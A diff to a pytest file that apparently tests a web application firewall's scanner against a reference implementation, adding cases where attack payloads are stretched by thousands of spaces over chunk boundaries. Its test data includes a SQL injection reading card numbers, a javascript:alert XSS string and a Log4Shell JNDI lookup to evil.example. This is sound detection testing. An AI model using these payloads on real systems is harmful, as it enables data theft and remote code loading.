@@ -6,8 +6,9 @@ leaves the batched path for the side worker and the stream engine
 it gives has to be the one ``benchmark/reference/plainwaf.py`` gives for
 the same frame (attack flag, blocked flag, set of rule ids): both reroute
 kinds, JSON and urlencoded bodies, the payload mid-body, at the very
-tail, across a wave boundary and across a 64 KiB chunk boundary.  The
-reference shares no code with the program.
+tail, across a wave boundary and across a 64 KiB chunk boundary, and
+stretched over either by thousands of bytes that a rule's chain deletes.
+The reference shares no code with the program.
 
 ROADMAP F1 is the named regression: the side lane used to confirm on the
 unpacked copy of the body, whose url-decoded segment the confirm twin
@@ -140,25 +141,29 @@ def test_payload_across_a_64k_chunk_boundary(lane, ctype):
     assert want[0] and have == want
 
 
-@pytest.mark.parametrize("into", [0, 12, 27])
-@pytest.mark.parametrize("ctype", ["json", "form"])
-def test_payload_across_a_cut_between_two_pieces(lane, ctype, into):
-    """The scan stream is cut into pieces scanned side by side; a payload
-    (and, urlencoded, an escape of it) that a cut goes through is found
-    in the cut's seam."""
-    from ingress_plus_tpu.serve.unpack import unpack_body
+# a rule whose chain deletes bytes (``t:removeWhitespace``) matches its
+# keywords however far apart they lie: the scan's squash variants drop
+# every whitespace byte, so the factor (``unionselect``) is found only
+# if the automaton's state is carried over ALL the bytes in between
+STRETCHED = {942270: "1' UNION%sSELECT card_no FROM payments--",
+             941110: "javascript%s:alert(1)",
+             932191: "${jndi%s:ldap://evil.example/a}"}
 
-    probe = build(30_000, ctype, SQLI, "mid")
-    scanned = unpack_body(probe.body, probe.headers)
-    cut = len(Batcher._side_parts(scanned)[0])
-    req = build(30_000, ctype, SQLI, cut - into)
-    scanned = unpack_body(req.body, req.headers)
-    assert len(Batcher._side_parts(scanned)[0]) == cut
-    mark = (body_post._json_escape if ctype == "json"
-            else body_post.quote_plus)(SQLI).encode()
-    assert scanned.find(mark) < cut < scanned.find(mark) + len(mark)
-    have, want = served_and_reference(lane, req)
-    assert want[0] and have == want
+
+@pytest.mark.parametrize("place", ["wave", "chunk"])
+@pytest.mark.parametrize("ctype", ["json", "form"])
+@pytest.mark.parametrize("rule_id", sorted(STRETCHED))
+def test_payload_stretched_by_deletable_bytes_over_a_boundary(
+        lane, rule_id, ctype, place):
+    """2,500 spaces (``+`` urlencoded) between a payload's two halves:
+    more than a whole wave of bytes the squash variants delete, laid
+    over a wave boundary and over a 64 KiB chunk boundary."""
+    size, at = {"wave": (21_000, 3 * CHUNK_L),
+                "chunk": (CHUNK + 6_000, CHUNK)}[place]
+    have, want = served_and_reference(
+        lane, build(size, ctype, STRETCHED[rule_id] % (" " * 2_500), at))
+    assert rule_id in want[2]
+    assert have == want
 
 
 @pytest.mark.parametrize("size", [8_800, 13_000, 24_000, 40_000])
@@ -287,10 +292,9 @@ def test_side_lane_stage_is_on_metrics(lane, exposition, stage):
 
 def test_wave_counters_count_live_rows_and_their_bytes(lane):
     """One benign JSON body: the scan stream (body + separator +
-    extracted copy) is cut into four pieces and three seams scanned side
-    by side, so the waves are the longest piece's 2,048-byte steps; a
-    wave carries one live row per distinct (part, variant), identical
-    ones scanned once, never a padding row."""
+    extracted copy) goes through as one sequence, so the waves are its
+    2,048-byte steps; a wave carries one live row per distinct variant,
+    identical ones scanned once, never a padding row."""
     from ingress_plus_tpu.compiler.ruleset import VARIANTS
     from ingress_plus_tpu.serve.unpack import unpack_body
 
@@ -300,26 +304,8 @@ def test_wave_counters_count_live_rows_and_their_bytes(lane):
     req = build(20_000, "json", "", "mid")
     served_and_reference(lane, req)
     scanned = unpack_body(req.body, req.headers)
-    assert len(scanned) > THRESHOLD
-    parts = Batcher._side_parts(scanned)
-    assert len(parts) == 2 * Batcher.SIDE_PIECES - 1
-    assert b"".join(parts[:Batcher.SIDE_PIECES]) == scanned
-    assert eng.waves - w0 == -(-max(map(len, parts)) // CHUNK_L)
-    rows_max = len(VARIANTS) * len(parts)
+    assert THRESHOLD < len(scanned) <= CHUNK
+    assert eng.waves - w0 == -(-len(scanned) // CHUNK_L)
     assert (eng.waves - w0 <= eng.wave_rows - r0
-            <= rows_max * (eng.waves - w0))
-    fed = sum(map(len, parts))
-    assert fed <= eng.wave_bytes - b0 <= len(VARIANTS) * fed
-
-
-@pytest.mark.parametrize("n,pieces", [(4_000, 1), (9_000, 2), (16_384, 4),
-                                      (300_000, 4)])
-def test_side_parts_cover_the_stream_and_every_cut(n, pieces):
-    data = bytes(range(256)) * (n // 256 + 1)
-    parts = Batcher._side_parts(data[:n])
-    assert len(parts) == 2 * pieces - 1
-    assert b"".join(parts[:pieces]) == data[:n]
-    at = 0
-    for piece, seam in zip(parts[:pieces], parts[pieces:]):
-        at += len(piece)
-        assert seam == data[at - Batcher.SIDE_SEAM:at + Batcher.SIDE_SEAM]
+            <= len(VARIANTS) * (eng.waves - w0))
+    assert len(scanned) <= eng.wave_bytes - b0 <= len(VARIANTS) * len(scanned)
